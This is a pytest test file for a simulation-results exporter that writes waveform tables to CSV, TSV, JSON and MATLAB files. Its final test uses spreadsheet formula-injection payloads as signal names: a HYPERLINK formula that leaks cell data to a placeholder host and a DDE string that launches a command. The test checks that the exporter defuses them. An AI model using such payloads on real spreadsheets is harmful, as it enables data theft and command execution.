"""Tables as files: what is in them, and that a target is whole or untouched."""

from __future__ import annotations

import csv
import io
import json
import math
import os
from pathlib import Path

import numpy as np
import pytest

from application.results.exporting import ExportRequest, TableOptions
from application.results.tables import tables_of
from infrastructure.exports import tables as tables_module
from infrastructure.exports.tables import TableFiles, matlab_name
from infrastructure.exports.target import new_file
from infrastructure.waveforms.raw_file import WaveformFile
from shared.errors import CircuitError, EnvironmentProblem, UserInputError
from tests.unit.waveform_files.raw_writers import ltspice, xyce

TIME = np.array([0.0, 1e-6, 3e-6])
FREQUENCY = np.array([1.0, 1e3, 1e6])
H = np.array([1.0 + 0j, 0.5 - 0.5j, -1e-3j])


@pytest.fixture
def raw(tmp_path: Path) -> Path:
    tran = [("time", "time", TIME), ("v(out)", "voltage", np.array([1.0, math.nan, 1 / 3]))]
    ac = [("frequency", "frequency", FREQUENCY + 0j), ("v(out)", "voltage", H)]
    path = tmp_path / "run.raw"
    path.write_bytes(
        xyce([("v(a)", "voltage", np.array([3.0])), ("v1#branch", "current", np.array([2.0]))],
             plot="Operating Point")
        + xyce(tran, plot="Transient Analysis")
        + xyce(ac, plot="AC Analysis", flags="complex")
    )  # fmt: skip
    return path


def exported(raw: Path, options: TableOptions, *signals: str, analysis: str | None = None, **more) -> Path:
    target = raw.with_name(f"out.{options.format}")
    request = ExportRequest(source=raw, target=target, signals=signals, overwrite=True, **more)
    with WaveformFile(raw) as file:
        TableFiles().write(tables_of(file, signals, analysis), request, options)
    return target


def rows(path: Path, delimiter: str = ",") -> list[list[str]]:
    return list(csv.reader(io.StringIO(path.read_text("utf-8")), delimiter=delimiter))


def test_csv_has_every_digit_and_nothing_for_no_number(raw: Path):
    found = rows(exported(raw, TableOptions(format="csv"), analysis="tran"))
    assert found == [["time", "v(out)"], ["0.0", "1.0"], ["1e-06", ""], ["3e-06", "0.3333333333333333"]]


def test_tsv_with_units(raw: Path):
    options = TableOptions(format="tsv", with_units=True)
    found = rows(exported(raw, options, "v(out)", "v(out)/v(out)", analysis="tran"), "\t")
    assert found[0] == ["time [s]", "v(out) [V]", "v(out)/v(out)"]


@pytest.mark.parametrize(
    ("form", "heads", "second"),
    [
        ("re-im", ["re(v(out))", "im(v(out))"], [0.5, -0.5]),
        ("mag-ph", ["mag(v(out))", "ph(v(out))"], [math.sqrt(0.5), -45.0]),
        ("db-ph", ["db(v(out))", "ph(v(out))"], [10 * math.log10(0.5), -45.0]),
    ],
)
def test_a_complex_signal_becomes_two_columns(raw: Path, form, heads, second):
    found = rows(exported(raw, TableOptions(format="csv", complex_form=form), analysis="ac"))
    assert found[0] == ["frequency", *heads]
    assert [float(text) for text in found[2]] == pytest.approx([1e3, *second])


def test_phases_are_unwrapped_over_blocks(tmp_path: Path):
    count = 50_000
    phase = np.linspace(0, -1000, count)
    columns = [
        ("frequency", "frequency", np.linspace(1, 2, count) + 0j),
        ("v(a)", "voltage", np.exp(1j * phase)),
    ]
    path = tmp_path / "run.raw"
    path.write_bytes(xyce(columns, plot="AC Analysis", flags="complex"))
    found = rows(exported(path, TableOptions(format="csv", complex_form="mag-ph")))
    assert len(found) == count + 1
    assert float(found[-1][2]) == pytest.approx(math.degrees(-1000))


def test_expressions_go_to_the_analysis_that_has_them_all(raw: Path):
    with WaveformFile(raw) as file:
        (one,) = tables_of(file, ("v(out)", "db(v(out))"))
        assert (one.name, one.axis.name, [c.unit for c in one.columns]) == ("ac", "frequency", ["V", "dB"])
        (op,) = tables_of(file, ("v(a)", "i(v1)*2"))
        assert (op.name, op.axis, op.rows, op.parts[0].whole(1).tolist()) == ("op", None, 1, [4.0])
        assert [table.name for table in tables_of(file)] == ["op", "tran", "ac"]
        with pytest.raises(UserInputError, match="no analysis noise"):
            tables_of(file, (), "noise")
        with pytest.raises(UserInputError, match="no signal v\\(nix\\)"):
            tables_of(file, ("v(nix)",))


def test_json_has_all_analyses(raw: Path):
    found = json.loads(exported(raw, TableOptions(format="json")).read_text("utf-8"))
    assert found["schema_version"] == 1
    assert found["source"] == str(raw)
    assert [(t["name"], t["axis"], t["points"]) for t in found["tables"]] == [
        ("op", None, 1), ("tran", "time", 3), ("ac", "frequency", 3),
    ]  # fmt: skip
    assert found["tables"][1]["signals"]["v(out)"] == {"unit": "V", "data": [1.0, None, 1 / 3]}
    assert found["tables"][2]["signals"]["im(v(out))"]["data"] == [0.0, -0.5, -1e-3]


def test_mat_is_read_by_scipy(raw: Path):
    from scipy.io import loadmat

    found = loadmat(exported(raw, TableOptions(format="mat"), analysis="ac"))
    assert found["v_out"].ravel().tolist() == H.tolist()
    assert [str(name[0]) for name in found["signal_names"].ravel()] == ["frequency", "v(out)"]
    assert [str(name[0]) for name in found["signal_units"].ravel()] == ["Hz", "V"]
    several = loadmat(exported(raw, TableOptions(format="mat")), simplify_cells=True)
    assert several["tran"]["time"].tolist() == TIME.tolist()
    assert several["op"]["i_v1"] == 2.0


def test_matlab_names():
    taken: dict[str, str] = {}
    names = [
        "v(out)",
        "v_out",
        "@m1[id]",
        "1/v(a)",
        "end",
        "é",
        "v(" + "x" * 80 + ")",
        "time",
        "signal_names",
    ]
    assert [matlab_name(name, taken) for name in names] == [
        "v_out", "v_out_2", "m1_id", "x1_v_a", "x_end", "signal", "v_" + "x" * 61, "time", "signal_names_2",
    ]  # fmt: skip
    assert list(taken.values()) == names


def test_runs_of_a_step_follow_each_other_with_their_values(tmp_path: Path):
    path = tmp_path / "run.raw"
    time = np.array([0.0, 1.0, 0.0, 1.0, 2.0])
    path.write_bytes(
        ltspice([("time", "time", time), ("V(a)", "voltage", time * 2)], flags="real stepped double")
    )
    path.with_suffix(".log").write_text(".step r=1k temp=27\n.step r=2k temp=27\n")
    found = rows(exported(path, TableOptions(format="csv"), "v(a)*2"))
    assert found[0] == ["step", "r", "temp", "time", "v(a)*2"]
    assert found[2:4] == [["1", "1000.0", "27.0", "1.0", "4.0"], ["2", "2000.0", "27.0", "0.0", "0.0"]]
    assert len(found) == 6
    assert rows(exported(path, TableOptions(format="csv")))[3][:2] == ["2", "2000.0"]
    content = json.loads(exported(path, TableOptions(format="json")).read_text("utf-8"))
    assert [table["step"]["values"]["r"] for table in content["tables"]] == [1000.0, 2000.0]


def test_steps_of_two_like_analyses_stay_apart(tmp_path: Path):
    path = tmp_path / "run.raw"
    columns = [("frequency", "frequency", FREQUENCY + 0j), ("v(a)", "voltage", H)]
    name = "Step Analysis: Step {} of 2 params: name = r1 value = {} AC Analysis"
    path.write_bytes(
        b"".join(
            xyce(columns, plot=name.format(step, step), flags="complex") for step in (1, 2) for _ in range(2)
        )
    )
    with WaveformFile(path) as file:
        found = tables_of(file)
        assert [(table.name, [part.step.number for part in table.parts]) for table in found] == [
            ("ac", [1, 2]), ("ac2", [1, 2]),
        ]  # fmt: skip


def test_a_result_without_data(tmp_path: Path):
    path = tmp_path / "run.raw"
    path.write_bytes(xyce([("time", "time", np.empty(0))], plot="Transient Analysis"))
    with WaveformFile(path) as file, pytest.raises(CircuitError):
        tables_of(file)


def test_a_file_that_is_there_is_not_replaced_unasked(tmp_path: Path):
    target = tmp_path / "out.csv"
    target.write_text("mine")
    with pytest.raises(UserInputError) as caught, new_file(target, overwrite=False):
        raise AssertionError("not begun")
    assert caught.value.error_type == "file_exists"
    with new_file(target, overwrite=True) as file:
        file.write(b"new")
        assert target.read_text() == "mine"
    assert target.read_text() == "new"


def test_somebody_else_may_be_quicker(tmp_path: Path):
    target = tmp_path / "out.csv"
    with pytest.raises(UserInputError), new_file(target, overwrite=False):
        target.write_text("theirs")
    assert target.read_text() == "theirs"
    assert [entry.name for entry in tmp_path.iterdir()] == ["out.csv"]


def test_an_error_on_the_way_leaves_nothing(raw: Path, monkeypatch: pytest.MonkeyPatch):
    def full(*_: object) -> None:
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(os, "fsync", full)
    with pytest.raises(EnvironmentProblem):
        exported(raw, TableOptions(format="csv"), analysis="tran")
    assert [entry.name for entry in raw.parent.iterdir()] == ["run.raw"]


@pytest.mark.parametrize("name", ["", "missing/out.csv", "."])
def test_places_that_can_be_no_file(tmp_path: Path, name: str):
    with pytest.raises(UserInputError) as caught, new_file(tmp_path / name, overwrite=True):
        raise AssertionError("not begun")
    assert caught.value.error_type == "bad_path"


def test_without_scipy_the_error_says_so(raw: Path, monkeypatch: pytest.MonkeyPatch):
    import sys

    monkeypatch.setitem(sys.modules, "scipy.io", None)
    with pytest.raises(EnvironmentProblem) as caught:
        exported(raw, TableOptions(format="mat"))
    assert caught.value.error_type == "missing_library"


def test_a_variable_too_large_for_mat_is_refused_before_writing(raw: Path, monkeypatch: pytest.MonkeyPatch):
    monkeypatch.setattr(tables_module, "_MAX_MAT_BYTES", 16)
    with pytest.raises(UserInputError, match="2 GB"):
        exported(raw, TableOptions(format="mat"), analysis="tran")
    assert [entry.name for entry in raw.parent.iterdir()] == ["run.raw"]


def test_a_name_is_no_formula_for_a_spreadsheet(tmp_path: Path):
    """Names are a stranger's; those of signals stay as they are."""
    names = ['=HYPERLINK("http://x/"&A1)', "@SUM(1)*cmd|'/c calc'!A0", "@m1[id]", "-v(a)"]
    path = tmp_path / "run.raw"
    path.write_bytes(
        xyce(
            [("time", "time", TIME), *((name, "voltage", TIME) for name in names)], plot="Transient Analysis"
        )
    )
    found = rows(exported(path, TableOptions(format="csv")))[0]
    assert [head[0] for head in found] == ["t", "'", "'", "@", "-"]
